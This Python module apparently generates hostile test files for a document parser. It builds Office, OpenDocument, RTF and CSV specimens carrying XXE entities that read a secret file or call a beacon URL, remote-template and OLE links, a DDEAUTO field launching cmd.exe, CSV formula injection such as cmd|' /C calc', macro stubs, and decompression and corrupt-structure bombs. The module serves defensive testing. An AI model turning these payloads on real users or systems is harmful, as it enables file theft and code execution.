"""Families 19 to 25: Office documents, tables and compound files."""

import random
import struct
from collections.abc import Iterator, Mapping
from functools import partial

from hostile_files.specimen import CORRUPT, LIMIT, LOCKED, OK, PARTIAL, UNSUPPORTED, Hostile, Place, fixed, late, only
from hostile_files.zips import Entry, zipped

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BASE = "application/vnd.openxmlformats-officedocument."
DECLARED = '<?xml version="1.0"?>'
Parts = Mapping[str, str | bytes]


def package(main: str, about: str, parts: Parts) -> bytes:
    """Return an Office package: its main part, that part's type, and its parts."""
    whole: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{main}" ContentType="{about}"/></Types>',
        "_rels/.rels": relations(("officeDocument", main, False)),
    }
    whole |= parts
    return zipped(
        Entry(name.encode(), body if isinstance(body, bytes) else body.encode()) for name, body in whole.items()
    )


def relations(*links: tuple[str, str, bool]) -> str:
    """Return a relationship part of kinds, targets and whether they lie outside."""
    body = "".join(
        f'<Relationship Id="r{n}" Type="{R}/{kind}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if outside else ""}/>'
        for n, (kind, target, outside) in enumerate(links, 1)
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'


def docx(
    body: str, parts: Parts | None = None, *, head: str = DECLARED, about: str = "wordprocessingml.document.main+xml"
) -> bytes:
    """Return a Word document."""
    document = f'{head}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'
    kind = about if about.startswith("application/") else BASE + about
    return package("word/document.xml", kind, {"word/document.xml": document} | dict(parts or {}))


def said(words: str) -> str:
    """Return a paragraph."""
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def xlsx(
    sheet: str, parts: Parts | None = None, *, about: str = "spreadsheetml.sheet.main+xml", sheets: int = 1
) -> bytes:
    """Return a workbook whose sheets all hold the same."""
    listed = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="r{n}"/>' for n in range(1, sheets + 1))
    links = [("worksheet", f"worksheets/sheet{n}.xml", False) for n in range(1, sheets + 1)]
    whole: dict[str, str | bytes] = {
        "xl/workbook.xml": f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets>{listed}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relations(*links, ("sharedStrings", "sharedStrings.xml", False)),
    }
    whole |= {
        f"xl/worksheets/sheet{n}.xml": f'<worksheet xmlns="{S}">{sheet}</worksheet>' for n in range(1, sheets + 1)
    }
    kind = about if about.startswith("application/") else BASE + about
    return package("xl/workbook.xml", kind, whole | dict(parts or {}))


def odf(kind: str, body: str, head: str = DECLARED, more: Mapping[str, bytes] | None = None) -> bytes:
    """Return an OpenDocument file."""
    spaces = (
        "".join(
            f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
            for name in ("office", "text", "table", "draw")
        )
        + ' xmlns:xlink="http://www.w3.org/1999/xlink"'
    )
    content = f"{head}<office:document-content{spaces}><office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>"
    name = {"text": "text", "spreadsheet": "spreadsheet", "presentation": "presentation"}[kind]
    entries = [
        Entry(b"mimetype", f"application/vnd.oasis.opendocument.{name}".encode(), 0),
        Entry(b"content.xml", content.encode()),
    ]
    return zipped([*entries, *(Entry(key.encode(), value) for key, value in (more or {}).items())])


ENTITY = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file://SECRET">]>'
PARAMETER = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % x SYSTEM "file://SECRET"> %x;]>'
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "file://SECRET">'
BEACON = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "URL">]>'
UNREAD = only(OK, PARTIAL, CORRUPT)


def _filled(template: str, place: Place) -> str:
    return template.replace("SECRET", place.secret).replace("URL", place.url("office"))


def _including(kind: str, head: str, place: Place) -> bytes:
    head, words = _filled(head, place), "The &x; keys"
    if kind == "docx":
        return docx(said(words), head=head)
    if kind == "docx-core":
        core = f'{head}<cp:coreProperties xmlns:cp="c" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{words}</dc:title></cp:coreProperties>'
        return docx(said("The keys"), {"docProps/core.xml": core})
    if kind == "docx-rels":
        return docx(said("The keys"), {"word/_rels/document.xml.rels": head + relations(("image", "&x;", True))})
    if kind == "xlsx":
        strings = f'{head}<sst xmlns="{S}"><si><t>{words}</t></si></sst>'
        return xlsx(
            '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>', {"xl/sharedStrings.xml": strings}
        )
    if kind == "odt":
        return odf("text", f"<text:p>{words}</text:p>", head)
    if kind == "html":
        return f'{head}<html xmlns="http://www.w3.org/1999/xhtml"><body><p>{words}</p></body></html>'.encode()
    return f"{head}<x>{words}</x>".encode()


def _files_included() -> Iterator[Hostile]:
    for kind in ("docx", "docx-core", "docx-rels", "xlsx", "odt", "html", "xml", "rss"):
        for what, head in (("entity", ENTITY), ("parameter", PARAMETER), ("outside", OUTSIDE), ("beacon", BEACON)):
            suffix = {"docx-core": "docx", "docx-rels": "docx"}.get(kind, kind)
            make = partial(_including, kind, head)
            yield Hostile(19, f"{kind}-{what}.{suffix}", make, UNREAD, lacks=("kestrelnest",), beacon=what == "beacon")


def _fetching(kind: str, place: Place) -> bytes:
    url = place.url("doc")
    match kind:
        case "template":
            links = relations(("attachedTemplate", url, True))
            return docx(
                said("The keys"),
                {"word/_rels/settings.xml.rels": links, "word/settings.xml": f'<w:settings xmlns:w="{W}"/>'},
            )
        case "picture":
            field = f'<w:p><w:r><w:instrText> INCLUDEPICTURE "{url}" \\d </w:instrText></w:r></w:p>'
            return docx(said("The keys") + field)
        case "link" | "oleObject" | "frame" | "image" | "hyperlink" | "subDocument" | "video":
            return docx(said("The keys"), {"word/_rels/document.xml.rels": relations((kind, url, True))})
        case "dde":
            field = f'<w:p><w:r><w:instrText> DDEAUTO c:\\windows\\cmd.exe "{url}" </w:instrText></w:r></w:p>'
            return docx(said("The keys") + field)
        case "xlsx-link":
            links = relations(("externalLinkPath", url, True))
            book = f'<externalLink xmlns="{S}"><externalBook/></externalLink>'
            cell = '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>The keys</t></is></c></row></sheetData>'
            return xlsx(
                cell,
                {"xl/externalLinks/externalLink1.xml": book, "xl/externalLinks/_rels/externalLink1.xml.rels": links},
            )
        case "xlsx-service":
            cell = f'<sheetData><row r="1"><c r="A1"><f>WEBSERVICE("{url}")</f><v>1</v></c><c r="B1" t="inlineStr"><is><t>The keys</t></is></c></row></sheetData>'
            return xlsx(cell)
        case "odt":
            return odf("text", f'<text:p>The keys<draw:frame><draw:image xlink:href="{url}"/></draw:frame></text:p>')
        case "rtf":
            return rb"{\rtf1{\*\template %b}{\field{\*\fldinst INCLUDEPICTURE %b}{\fldrslt The keys}}}" % (
                url.encode(),
                url.encode(),
            )
    raise ValueError(kind)


def _documents_that_fetch() -> Iterator[Hostile]:
    for kind in (
        "template",
        "link",
        "oleObject",
        "frame",
        "image",
        "hyperlink",
        "subDocument",
        "video",
        "picture",
        "dde",
    ):
        named = () if kind in ("picture", "dde") else (("address", "127.0.0.1"),)
        has = ("127.0.0.1",)
        make = partial(_fetching, kind)
        yield Hostile(20, f"{kind}.docx", make, only(OK), has=has, shown=("The keys",), observed=named, beacon=True)
    yield Hostile(
        20, "link.xlsx", partial(_fetching, "xlsx-link"), only(OK), has=("127.0.0.1",), shown=("The keys",), beacon=True
    )
    yield Hostile(20, "service.xlsx", partial(_fetching, "xlsx-service"), only(OK), has=("127.0.0.1",), beacon=True)
    yield Hostile(20, "picture.odt", partial(_fetching, "odt"), only(OK), shown=("The keys",), beacon=True)
    yield Hostile(20, "template.rtf", partial(_fetching, "rtf"), only(OK), shown=("The keys",), beacon=True)


CELL = '<c r="{0}" t="inlineStr"><is><t>The keys</t></is></c>'


def _tables() -> Iterator[Hostile]:
    one = CELL.replace("{0}", "XFD1048576")
    far = f'<dimension ref="A1:XFD1048576"/><sheetData><row r="1048576">{one}</row></sheetData>'
    yield Hostile(21, "dimensions.xlsx", fixed(xlsx(far)), only(OK), shown=("The keys",), memory=80, seconds=3)
    beyond = f'<sheetData><row r="99999999999">{CELL.replace("{0}", "ZZZZZZ99999999999")}</row></sheetData>'
    yield Hostile(21, "beyond.xlsx", fixed(xlsx(beyond)), only(OK, PARTIAL), memory=80, seconds=3)
    columns = '<cols><col min="1" max="2147483647" hidden="1"/><col min="-5" max="99999999999"/></cols>' + far
    yield Hostile(21, "columns.xlsx", fixed(xlsx(columns)), only(OK, PARTIAL), memory=80, seconds=3)
    many = (
        "<cols>"
        + '<col min="1" max="16384" hidden="1"/>' * 20_000
        + "</cols><sheetData><row>"
        + one * 5_000
        + "</row></sheetData>"
    )
    yield Hostile(21, "many-columns.xlsx", fixed(xlsx(many)), only(OK, PARTIAL), memory=100, seconds=8)
    merged = far + "<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 50_000 + "</mergeCells>"
    yield Hostile(21, "merged.xlsx", fixed(xlsx(merged)), only(OK, PARTIAL), memory=100, seconds=5)
    used = '<sheetData><row r="1">' + '<c r="A1" t="s"><v>0</v></c>' * 20_000 + "</row></sheetData>"
    for size in (10_000, 1_000_000):
        strings = f'<sst xmlns="{S}"><si><t>{"x" * size}</t></si></sst>'
        make = late(partial(xlsx, used, {"xl/sharedStrings.xml": strings}))
        yield Hostile(21, f"one-string-{size}.xlsx", make, only(PARTIAL, LIMIT), memory=400, seconds=20)
    strings = f'<sst xmlns="{S}" count="4294967295" uniqueCount="4294967295">{"<si/>" * 1_000_000}</sst>'
    yield Hostile(
        21,
        "million-strings.xlsx",
        fixed(xlsx(far, {"xl/sharedStrings.xml": strings})),
        only(OK, PARTIAL, LIMIT),
        memory=300,
        seconds=15,
    )
    yield Hostile(21, "two-thousand-sheets.xlsx", late(partial(xlsx, far, sheets=2_000)), only(OK, PARTIAL), seconds=15)
    wide = '<sheetData><row r="1">' + "<c><v>1</v></c>" * 300_000 + "</row></sheetData>"
    yield Hostile(21, "wide.xlsx", fixed(xlsx(wide)), only(OK, PARTIAL), memory=300, seconds=15)
    deep = "<sheetData>" + "<row>" * 5_000 + "</row>" * 5_000 + "</sheetData>"
    yield Hostile(21, "deep.xlsx", fixed(xlsx(deep)), only(OK, PARTIAL, LIMIT), seconds=5)
    repeated = (
        '<table:table table:name="t"><table:table-column table:number-columns-repeated="16384"/>'
        '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384">'
        "<text:p>The keys</text:p></table:table-cell></table:table-row></table:table>"
    )
    yield Hostile(
        21,
        "repeated.ods",
        fixed(odf("spreadsheet", repeated)),
        only(OK, PARTIAL),
        shown=("The keys",),
        memory=80,
        seconds=3,
    )
    blanks = f"<text:p>The{''.join(f'<text:s text:c={chr(34)}999999999{chr(34)}/>' for _ in range(5000))}keys</text:p>"
    yield Hostile(21, "blanks.odt", fixed(odf("text", blanks)), only(OK, PARTIAL, LIMIT), memory=100, seconds=4)
    yield Hostile(21, "columns.csv", fixed(b"," * 2_000_000 + b"\n" + b"a,b\n" * 4), only(OK, PARTIAL), seconds=6)
    yield Hostile(21, "quote.csv", fixed(b'a,b\n"' + b"x,y\n" * 500_000), only(OK, PARTIAL), seconds=6)
    yield Hostile(21, "rows.csv", fixed(b"1,2\n" * 700_000), only(OK, PARTIAL), seconds=10)


VBA = b"CreateObject(Shell).Run calc  ' harmless: a word in a box, no program"


def _macros() -> Iterator[Hostile]:
    seen = (("office.macros", ""),)
    word = "application/vnd.ms-word.document.macroEnabled.main+xml"
    excel = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    cell = "<sheetData><row>" + CELL.replace("{0}", "A1") + "</row></sheetData>"
    project = ole({"VBA/dir": b"\x01\x00", "VBA/ThisDocument": VBA, "PROJECT": b'ID="{0}"\r\n'})
    data = docx(
        said("The keys"),
        {
            "word/vbaProject.bin": project,
            "word/_rels/document.xml.rels": relations(("vbaProject", "vbaProject.bin", False)),
        },
        about=word,
    )
    yield Hostile(22, "project.docm", fixed(data), only(OK), shown=("The keys",), observed=seen)
    data = docx(said("The keys"), {"word/vbaProject.bin": project})
    yield Hostile(22, "unlinked.docx", fixed(data), only(OK), shown=("The keys",), observed=seen)
    data = xlsx(cell, {"xl/vbaProject.bin": project}, about=excel)
    yield Hostile(22, "project.xlsm", fixed(data), only(OK), shown=("The keys",), observed=seen)
    sheet = '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row><c><f>EXEC("calc")</f></c></row></sheetData></xm:macrosheet>'
    data = xlsx(cell, {"xl/macrosheets/sheet1.xml": sheet}, about=excel)
    yield Hostile(22, "sheet.xlsm", fixed(data), only(OK), has=("EXEC",), observed=seen)
    data = docx(said("The keys"), {"word/vbaProject.bin": random.Random(3).randbytes(5000)}, about=word)
    yield Hostile(22, "noise.docm", fixed(data), only(OK, PARTIAL), shown=("The keys",), observed=seen)
    script = b'<script:module xmlns:script="x">Shell("calc")</script:module>'
    data = odf("text", "<text:p>The keys</text:p>", more={"Basic/Standard/Module1.xml": script})
    yield Hostile(22, "basic.odt", fixed(data), only(OK), shown=("The keys",), observed=seen)
    activex = {
        "word/activeX/activeX1.bin": random.Random(4).randbytes(500),
        "word/embeddings/oleObject1.bin": ole({"\1Ole10Native": native(b"run.exe", b"MZ word")}),
    }
    yield Hostile(22, "packaged.docx", fixed(docx(said("The keys"), activex)), only(OK), shown=("The keys",))
    old = ole({"WordDocument": _word(), "1Table": bytes(500), "Macros/VBA/Module1": VBA, "Macros/PROJECT": b"x"})
    yield Hostile(22, "macros.doc", fixed(old), only(OK, PARTIAL, CORRUPT))


def _word() -> bytes:
    return struct.pack("<HHHHHH", 0xA5EC, 0xC1, 0, 0x409, 0, 0x200) + bytes(1500)


def native(name: bytes, data: bytes) -> bytes:
    """Return the record of a packager object ([MS-OLEDS] 2.3.6)."""
    path = b"C:\\" + name + b"\0"
    body = (
        b"\2\0"
        + name
        + b"\0"
        + path
        + b"\0\0\3\0"
        + struct.pack("<I", len(path))
        + path
        + struct.pack("<I", len(data))
        + data
    )
    return struct.pack("<I", len(body)) + body


FORMULAS = {
    "hyperlink": '=HYPERLINK("URL?"&A1,"The keys")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=cmd|' /C calc'!A0",
    "return": '"\r=cmd|calc!A0"',
    "service": '=WEBSERVICE("URL")',
    "import": '=IMPORTXML(CONCAT("URL","x"),"//a")',
    "quoted": '"=1+1"";=2"',
}


def _formula(text: str, place: Place) -> bytes:
    return f"name,note\nThe keys,{text.replace('URL', place.url('csv'))}\nb,c\nd,e\n".encode()


def _formulas() -> Iterator[Hostile]:
    for name, text in FORMULAS.items():
        yield Hostile(
            23, f"{name}.csv", partial(_formula, text), only(OK, PARTIAL), shown=("The keys",), beacon="URL" in text
        )
    formula = (
        '<sheetData><row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f><v>1</v></c>'
        + CELL.replace("{0}", "B1")
        + "</row></sheetData>"
    )
    yield Hostile(23, "command.xlsx", fixed(xlsx(formula)), only(OK), shown=("The keys",), has=("=cmd|",))


SECTOR = 512
FREE, CHAIN_END, FAT_SECTOR = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def ole(streams: Mapping[str, bytes]) -> bytes:
    """Return a compound file ([MS-CFB]) of streams by path; every stream lies in sectors of its own."""
    entries: list[tuple[str, int, int, int, int, int]] = []  # name, type, right sibling, child, start, size
    fat: list[int] = []
    body = bytearray()
    tree: dict[str, list[str]] = {"": []}
    for path in streams:
        steps = path.split("/")
        for depth in range(len(steps)):
            parent, here = "/".join(steps[:depth]), "/".join(steps[: depth + 1])
            if here not in tree.setdefault(parent, []):
                tree[parent].append(here)
    order = [""] + [path for paths in tree.values() for path in paths]
    number = {path: place for place, path in enumerate(order)}
    siblings = {a: number[b] for paths in tree.values() for a, b in zip(paths, paths[1:], strict=False)}
    for path in order:
        data, start = streams.get(path, b""), CHAIN_END
        kind = 5 if not path else 2 if path in streams else 1
        if data:
            data = data.ljust(4096, b"\0")
            start = len(fat)
            count = -(-len(data) // SECTOR)
            fat += [*range(start + 1, start + count), CHAIN_END]
            body += data.ljust(count * SECTOR, b"\0")
        child = number[tree[path][0]] if tree.get(path) else FREE
        entries.append(
            (path.rpartition("/")[2] or "Root Entry", kind, siblings.get(path, FREE), child, start, len(data))
        )
    directory = b"".join(_entry(*entry) for entry in entries)
    directory = directory.ljust(-(-len(directory) // SECTOR) * SECTOR, b"\0")
    first = len(fat)
    count = len(directory) // SECTOR
    fat += [*range(first + 1, first + count), CHAIN_END]
    body += directory
    tables = -(-(len(fat) + 1) // 127)
    place = len(fat)
    fat += [FAT_SECTOR] * tables
    table = struct.pack(f"<{len(fat)}I", *fat).ljust(tables * SECTOR, b"\xff")
    head = bytearray(SECTOR)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", head, 40, 0, tables, first, 0, 4096, CHAIN_END, 0, CHAIN_END, 0)
    struct.pack_into("<109I", head, 76, *(range(place, place + tables)), *([FREE] * (109 - tables)))
    return bytes(head) + bytes(body) + table


def _entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
    raw = name.encode("utf-16-le")[:62]
    return (
        raw.ljust(64, b"\0")
        + struct.pack("<HBBIII", len(raw) + 2, kind, 1, FREE, right, child)
        + bytes(36)
        + struct.pack("<IQ", start, size)
    )


def _documents_under_a_password() -> Iterator[Hostile]:
    info = b"\x04\x00\x04\x00\x40\x00\x00\x00<encryption/>"
    locked = ole({"EncryptionInfo": info, "EncryptedPackage": random.Random(5).randbytes(9000)})
    for suffix in ("docx", "xlsx", "pptx", "bin"):
        yield Hostile(24, f"agile.{suffix}", fixed(locked), only(LOCKED))
    word = bytearray(_word())
    struct.pack_into("<H", word, 10, 0x300)
    yield Hostile(24, "old.doc", fixed(ole({"WordDocument": bytes(word), "1Table": bytes(100)})), only(LOCKED))
    book = struct.pack("<HHHHHH", 0x809, 8, 0x600, 5, 0, 0) + bytes(4) + struct.pack("<HHH", 0x2F, 2, 0)
    yield Hostile(
        24, "old.xls", fixed(ole({"Workbook": book + struct.pack("<HH", 10, 0)})), only(LOCKED, CORRUPT, PARTIAL)
    )
    slides = ole({"PowerPoint Document": bytes(100), "EncryptedSummary": bytes(100)})
    yield Hostile(24, "old.ppt", fixed(slides), only(LOCKED))
    manifest = b'<manifest:manifest xmlns:manifest="m"><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>'
    yield Hostile(
        24, "locked.odt", fixed(odf("text", "<text:p/>", more={"META-INF/manifest.xml": manifest})), only(LOCKED)
    )


KINDS = {
    "doc": {"WordDocument": _word(), "1Table": bytes(6000)},
    "xls": {"Workbook": struct.pack("<HHHHHH", 0x809, 8, 0x600, 5, 0, 0) + bytes(9000)},
    "ppt": {"PowerPoint Document": bytes(9000)},
    "msg": {"__properties_version1.0": bytes(32), "__substg1.0_0037001F": "The keys".encode("utf-16-le")},
    "bin": {"Anything": bytes(9000)},
}


def _circled(data: bytes, how: str) -> bytes:
    out = bytearray(data)
    directory = struct.unpack_from("<I", out, 48)[0]
    table = (struct.unpack_from("<I", out, 76)[0] + 1) * SECTOR
    root = (directory + 1) * SECTOR
    match how:
        case "fat":
            for sector in range((len(out) - table) // 4):
                struct.pack_into("<I", out, table + 4 * sector, sector)
        case "two":
            struct.pack_into("<II", out, table, 1, 0)
        case "difat":
            struct.pack_into("<II", out, 68, 0, 0xFFFFFFF0)
            struct.pack_into("<I", out, SECTOR * 2 - 4, 0)
        case "directory":
            struct.pack_into("<I", out, table + 4 * directory, directory)
        case "child":
            struct.pack_into("<I", out, root + 76, 0)
        case "siblings":
            struct.pack_into("<II", out, root + 128 + 68, 1, 1)
        case "mini":
            struct.pack_into("<III", out, 56, 2**31, 0, 2**31)
        case "size":
            struct.pack_into("<Q", out, root + 128 + 120, 2**63)
        case "sector":
            struct.pack_into("<H", out, 30, 31)
        case "start":
            struct.pack_into("<I", out, 48, 2**31 - 1)
        case "count":
            struct.pack_into("<I", out, 44, 2**31 - 1)
        case "cut":
            return bytes(out[:1024])
    return bytes(out)


def _circles() -> Iterator[Hostile]:
    right = only(CORRUPT, PARTIAL, UNSUPPORTED, OK)
    for suffix, streams in KINDS.items():
        for how in (
            "fat",
            "two",
            "difat",
            "directory",
            "child",
            "siblings",
            "mini",
            "size",
            "sector",
            "start",
            "count",
            "cut",
        ):
            data = _circled(ole(streams), how)
            yield Hostile(25, f"{how}.{suffix}", fixed(data), right, memory=80, seconds=4)
    deep = "/".join(f"s{n}" for n in range(300))
    yield Hostile(25, "deep.bin", fixed(ole({deep + "/Anything": b"x"})), right, memory=80, seconds=4)
    yield Hostile(25, "wide.bin", fixed(ole({f"Stream {n}": b"" for n in range(9_000)})), right, memory=100, seconds=6)


def files() -> Iterator[Hostile]:
    """Yield the files of families 19 to 25."""
    yield from _files_included()
    yield from _documents_that_fetch()
    yield from _tables()
    yield from _macros()
    yield from _formulas()
    yield from _documents_under_a_password()
    yield from _circles()
